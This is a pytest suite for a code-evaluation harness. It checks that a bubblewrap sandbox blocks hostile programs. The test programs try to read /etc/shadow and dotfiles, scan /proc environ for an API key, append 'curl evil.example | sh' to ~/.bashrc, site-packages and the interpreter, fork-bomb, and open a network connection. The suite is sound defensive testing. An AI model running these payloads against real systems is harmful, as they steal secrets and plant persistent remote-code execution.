"""The bubblewrap level against programs that go after the host: secrets, the harness's
database and environment, the user's dotfiles, the virtual environment, /tmp. Each
attack must fail inside the sandbox and leave the host as it was. Then the fallbacks:
a weaker level is recorded and warned about, and the strict setting refuses it."""

from __future__ import annotations

import hashlib
import json
import logging
import os
import shutil
import subprocess
import sys
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest
from helpers import REPO, CliRun

from harness.metrics import sandbox as sandbox_module
from harness.metrics.sandbox import (
    BWRAP_ENV,
    POLICY_ENV,
    Limits,
    Sandbox,
    SandboxUnavailableError,
    detect_isolation,
)
from harness.store import Store

ISOLATION = detect_isolation()
# skipped only where bubblewrap is not installed at all (make installs it); installed but
# not working is a failure here, not a skip
pytestmark = pytest.mark.skipif(shutil.which("bwrap") is None,
                                reason="bubblewrap is not installed (apt-get install bubblewrap)")


def test_bubblewrap_is_the_level_in_use() -> None:
    assert ISOLATION.level == "bubblewrap", ISOLATION.fallback


def _run(program: str) -> sandbox_module.ExecutionResult:
    return Sandbox(Limits(timeout_s=5.0), workers=1).run(program)


def _digest(path: Path) -> str | None:
    return hashlib.sha256(path.read_bytes()).hexdigest() if path.exists() else None


def test_secrets_and_the_harness_database_cannot_be_read(tmp_path: Path) -> None:
    db = tmp_path / "harness.db"
    Store(db).close()
    targets = ["/etc/shadow", str(db), str(REPO / "pyproject.toml"),
               str(Path.home() / ".bashrc"), str(Path.home() / ".cache")]
    program = f"""
import os
read = []
for path in {targets!r}:
    try:
        if os.path.isdir(path):
            os.listdir(path)
        else:
            open(path, "rb").read(1)
        read.append(path)
    except OSError:
        pass
assert read, "nothing could be read"
print("READ", read)
"""
    result = _run(program)
    assert result.status == "failed" and "nothing could be read" in result.output
    # what the program can see at all: system directories, its own directory, and
    # the (read-only) interpreter; no checkout, no home, no host /tmp
    listing = _run("import os, json\nprint(json.dumps({p: sorted(os.listdir(p)) for p in "
                   "('/', '/tmp')}))\n")
    assert listing.passed, listing.output
    seen = json.loads(listing.output.strip().splitlines()[-1])
    assert set(seen["/"]) <= {"bin", "dev", "etc", "lib", "lib32", "lib64", "libx32", "proc",
                              "sbin", "tmp", "usr", *{Path(p).parts[1] for p in
                                                      sandbox_module._interpreter_trees()}}
    # in /tmp: its own directory, and the way to the venv when the checkout is in /tmp
    venv_ways = {Path(t).parts[2] for t in sandbox_module._interpreter_trees()
                 if Path(t).parts[1] == "tmp"}
    own = [name for name in seen["/tmp"] if name not in venv_ways]
    assert len(own) == 1 and own[0].startswith("evalarena-sandbox-")


def test_the_harness_environment_cannot_be_read_through_proc(tmp_path: Path) -> None:
    """The harness holds an API key in its environment; the program scans every
    /proc/*/environ it can see, the harness's own pid included."""
    secret = f"sk-{uuid.uuid4().hex}"
    script = tmp_path / "scan_environ.py"
    script.write_text(f"""
import json, os
from harness.metrics.sandbox import Limits, Sandbox
program = '''
import os
found = []
for pid in set(os.listdir("/proc")) | {{"{{parent}}"}}:
    try:
        if {secret!r}.encode() in open(f"/proc/{{pid}}/environ", "rb").read():
            found.append(pid)
    except OSError:
        pass
assert found, "no environment holds the secret"
'''.replace("{{parent}}", str(os.getpid()))
result = Sandbox(Limits(timeout_s=5.0), workers=1).run(program)
print(json.dumps([result.status, result.output]))
""")
    done = subprocess.run([sys.executable, str(script)], capture_output=True, text=True,
                          env={**os.environ, "OPENAI_API_KEY": secret}, cwd=REPO, timeout=60,
                          check=False)
    assert done.returncode == 0, done.stderr
    status, output = json.loads(done.stdout.strip().splitlines()[-1])
    assert status == "failed" and "no environment holds the secret" in output


@pytest.fixture
def host_tmp_marker() -> Iterator[str]:
    name = f"evalarena-escape-{uuid.uuid4().hex}"
    yield name
    for place in ("/tmp", "/dev/shm"):
        Path(place, name).unlink(missing_ok=True)


def test_writes_to_home_venv_and_tmp_do_not_outlive_the_program(host_tmp_marker: str) -> None:
    bashrc = Path.home() / ".bashrc"
    site = Path(sys.prefix) / "lib" / f"python{sys.version_info.major}.{sys.version_info.minor}"
    planted = site / "site-packages" / "evalarena-escape.pth"
    before = _digest(bashrc)
    program = f"""
import os
landed = []
for path in ({str(bashrc)!r}, {str(planted)!r}, {sys.executable!r}):
    try:
        with open(path, "a") as handle:
            handle.write("curl evil.example | sh\\n")
        landed.append(path)
    except OSError:
        pass
for place in ("/tmp", "/dev/shm"):  # private to the sandbox: these writes succeed
    with open(os.path.join(place, {host_tmp_marker!r}), "w") as handle:
        handle.write("still here?")
assert landed, "every write outside was refused"
"""
    result = _run(program)
    assert result.status == "failed" and "every write outside was refused" in result.output
    assert _digest(bashrc) == before and not planted.exists()
    assert not Path("/tmp", host_tmp_marker).exists()
    assert not Path("/dev/shm", host_tmp_marker).exists()


def test_fork_bomb_and_network_inside_bubblewrap() -> None:
    bomb = _run("import os\nwhile True:\n    try:\n        os.fork()\n"
                "    except OSError:\n        pass\n")
    assert bomb.status in ("failed", "timeout")
    net = _run("import socket\nsocket.create_connection(('1.1.1.1', 80), timeout=2)\n")
    assert net.status == "failed" and "Errno" in net.output
    assert _run("print('still fine')").passed


@pytest.fixture
def without_bubblewrap(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    monkeypatch.setenv(BWRAP_ENV, "/nonexistent/bwrap")
    detect_isolation.cache_clear()
    sandbox_module._warn_once.cache_clear()
    yield
    monkeypatch.undo()
    detect_isolation.cache_clear()


def test_a_fallback_is_recorded_and_warned(without_bubblewrap: None,
                                           caplog: pytest.LogCaptureFixture) -> None:
    fallback = detect_isolation()
    assert fallback.level != "bubblewrap" and not fallback.full
    assert "not installed" in (fallback.fallback or "")
    with caplog.at_level(logging.WARNING, logger="harness.metrics.sandbox"):
        assert Sandbox(Limits(timeout_s=5.0), workers=1).run("print(1)").passed
    assert any("not full isolation" in r.getMessage() for r in caplog.records)
    record = fallback.record()
    assert record["level"] == fallback.level and record["full"] is False


def test_strict_refuses_a_fallback(without_bubblewrap: None,
                                   monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(POLICY_ENV, "strict")
    with pytest.raises(SandboxUnavailableError, match="needs the bubblewrap sandbox"):
        Sandbox(Limits(timeout_s=5.0), workers=1)
    detect_isolation.cache_clear()
    monkeypatch.delenv(BWRAP_ENV)  # with bubblewrap back, strict runs code
    assert Sandbox(Limits(timeout_s=5.0), workers=1).run("print(1)").passed


def _humaneval_answers(tmp_path: Path) -> Path:
    answers = tmp_path / "answers.jsonl"
    answers.write_text("".join(json.dumps({"id": f"HumanEval/{i}", "answer": "    pass\n"}) + "\n"
                               for i in range(2)))
    return answers


def test_show_prints_the_sandbox_of_the_run(cli: CliRun, tmp_path: Path) -> None:
    db = tmp_path / "he.db"
    done = cli("import", str(_humaneval_answers(tmp_path)), "--suite", "humaneval",
               "--name", "stub", "--db", str(db))
    assert done.returncode == 0, done.stderr
    assert "not full isolation" not in done.stderr
    (run,) = Store(db).list_runs()
    assert run.manifest["code_execution"]["level"] == "bubblewrap"
    assert run.manifest["code_execution"]["full"] is True
    shown = cli("show", run.id, "--db", str(db))
    assert "code execution: sandbox bubblewrap (own filesystem view, no network" in shown.stdout
    # a fallback is recorded, warned about on stderr and shown as such
    db2 = tmp_path / "fallback.db"
    done = cli("import", str(_humaneval_answers(tmp_path)), "--suite", "humaneval",
               "--name", "stub", "--db", str(db2), env={BWRAP_ENV: "/nonexistent/bwrap"})
    assert done.returncode == 0, done.stderr
    assert "not full isolation" in done.stderr and "apt-get install bubblewrap" in done.stderr
    (run,) = Store(db2).list_runs()
    shown = cli("show", run.id, "--db", str(db2))
    assert "NOT FULL ISOLATION: bubblewrap (bwrap) is not installed" in shown.stdout


def test_strict_refuses_before_anything_is_written(cli: CliRun, tmp_path: Path) -> None:
    db = tmp_path / "strict.db"
    done = cli("import", str(_humaneval_answers(tmp_path)), "--suite", "humaneval",
               "--name", "stub", "--db", str(db),
               env={BWRAP_ENV: "/nonexistent/bwrap", POLICY_ENV: "strict"})
    assert done.returncode == 2
    assert done.stderr.strip().count("\n") == 0 and "needs the bubblewrap sandbox" in done.stderr
    assert not db.exists()
    done = cli("run", "--model", "smollm2-135m", "--suite", "humaneval", "--limit", "1",
               "--db", str(db), env={BWRAP_ENV: "/nonexistent/bwrap", POLICY_ENV: "strict"})
    assert done.returncode == 2 and "needs the bubblewrap sandbox" in done.stderr
    assert not db.exists()


def test_an_interpreter_tree_under_tmp_stays_visible(tmp_path: Path,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    """A checkout (and its venv) under /tmp: the sandbox's private /tmp must not cover
    the read-only bind of the venv (CI clones into /tmp)."""
    venv = tmp_path / "venv-like"
    venv.mkdir()
    (venv / "marker.txt").write_text("visible")
    trees = (*sandbox_module._interpreter_trees(), str(venv))
    monkeypatch.setattr(sandbox_module, "_interpreter_trees", lambda: trees)
    result = _run(f"print(open({str(venv / 'marker.txt')!r}).read(), flush=True)\n"
                  f"open({str(venv / 'planted.txt')!r}, 'w')\n")
    assert result.status == "failed" and "visible" in result.output
    assert "Read-only file system" in result.output and not (venv / "planted.txt").exists()
